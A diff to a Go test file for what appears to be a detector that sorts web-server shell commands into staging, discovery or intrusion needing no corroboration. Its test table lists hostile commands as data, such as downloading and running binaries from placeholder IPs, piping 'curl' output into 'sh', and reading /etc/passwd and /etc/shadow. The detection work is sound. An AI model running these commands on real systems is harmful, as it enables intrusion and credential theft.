@@ -34,30 +34,39 @@ func TestRunsFetched(t *testing.T) {
 	}
 }
 
-// TestStagingOnly: a web server's fetch or unpack, or a command whose only
-// sign is a temporary path, needs corroboration; the same with a sign of
-// intent, or running what it fetched, does not.
+// TestStagingOnly: a web server's fetch or unpack, a command whose only
+// sign is a temporary path, or discovery alone needs corroboration; the
+// same with a sign of intent, or running what it fetched, does not.
 func TestStagingOnly(t *testing.T) {
 	for _, c := range []struct {
-		cmd  string
-		want bool
+		cmd   string
+		want  bool
+		shows Shows // when want: what the act shows alone
 	}{
-		{"cd /tmp && curl -fsS -o p.tgz http://192.0.2.7/p.tgz && tar xzf p.tgz -C /var/www/html/plugins", true},
-		{"tar -xzf /tmp/ext.tar.gz -C /var/www/html/ext", true},
-		{"wget -q http://198.51.100.7/x -O /tmp/x", true},
-		{"wget -q http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x", false},
-		{"cd /dev/shm && wget -q http://198.51.100.7/x && chmod 755 x", false},
+		{"cd /tmp && curl -fsS -o p.tgz http://192.0.2.7/p.tgz && tar xzf p.tgz -C /var/www/html/plugins", true, ""},
+		{"tar -xzf /tmp/ext.tar.gz -C /var/www/html/ext", true, ""},
+		{"wget -q http://198.51.100.7/x -O /tmp/x", true, ""},
+		{"wget -q http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x", false, ""},
+		{"cd /dev/shm && wget -q http://198.51.100.7/x && chmod 755 x", false, ""},
 		// an install from the admin page: fetched, unpacked into the web
 		// root, its modes set, the archive removed — staging only
-		{"curl -fsS -o /tmp/p.zip http://127.0.0.1:8000/p.zip && unzip -o -q /tmp/p.zip -d /var/www/html/plugins && chmod -R 755 /var/www/html/plugins/p && rm -f /tmp/p.zip", true},
-		{"wget -q http://198.51.100.7/x -O /tmp/x; /tmp/x", false},
-		{"curl -s http://198.51.100.7/x | sh", false},
-		{"cd /tmp && tar xzf k.tgz && cat /etc/passwd", false},
+		{"curl -fsS -o /tmp/p.zip http://127.0.0.1:8000/p.zip && unzip -o -q /tmp/p.zip -d /var/www/html/plugins && chmod -R 755 /var/www/html/plugins/p && rm -f /tmp/p.zip", true, ""},
+		{"wget -q http://198.51.100.7/x -O /tmp/x; /tmp/x", false, ""},
+		{"curl -s http://198.51.100.7/x | sh", false, ""},
+		{"cd /tmp && tar xzf k.tgz && cat /etc/passwd", false, ""},
 		// a temp path alone shows nothing by itself: tempnam() gives every
 		// application one (benign-news: convert, gs on temp files)
-		{"ls /tmp/", true},
-		{"convert '/tmp/nrimgwGqaJO' -thumbnail 320x320 '/var/www/news/media/thumbs/a.jpg' 2>&1", true},
-		{"ls /tmp/; id", false},
+		{"ls /tmp/", true, ""},
+		{"convert '/tmp/nrimgwGqaJO' -thumbnail 320x320 '/var/www/news/media/thumbs/a.jpg' 2>&1", true, ""},
+		// who and where it runs, alone or with a temp path: discovery, as
+		// a diagnostics page asks (benign-desk); with a search for a way
+		// to root, or a secret read, it shows intent
+		{"ls /tmp/; id", true, ShowsStaging},
+		{"id 2>&1", true, ShowsDiscovery},
+		{"uname -a; hostname", true, ShowsDiscovery},
+		{"id; sudo -n -l", false, ""},
+		{"id; cat /etc/shadow", false, ""},
+		{"curl -s http://198.51.100.7/x -o /tmp/x; id", true, ShowsStaging},
 	} {
 		s := newSynth()
 		e, err := New(Options{})
@@ -76,6 +85,13 @@ func TestStagingOnly(t *testing.T) {
 		}
 		if got.NeedsCorroboration != c.want {
 			t.Errorf("%q: NeedsCorroboration = %v, want %v", c.cmd, got.NeedsCorroboration, c.want)
+		}
+		want := c.shows
+		if c.want && want == "" {
+			want = ShowsStaging
+		}
+		if got.NeedsCorroboration == c.want && got.Shows != want {
+			t.Errorf("%q: Shows = %q, want %q", c.cmd, got.Shows, want)
 		}
 	}
 }
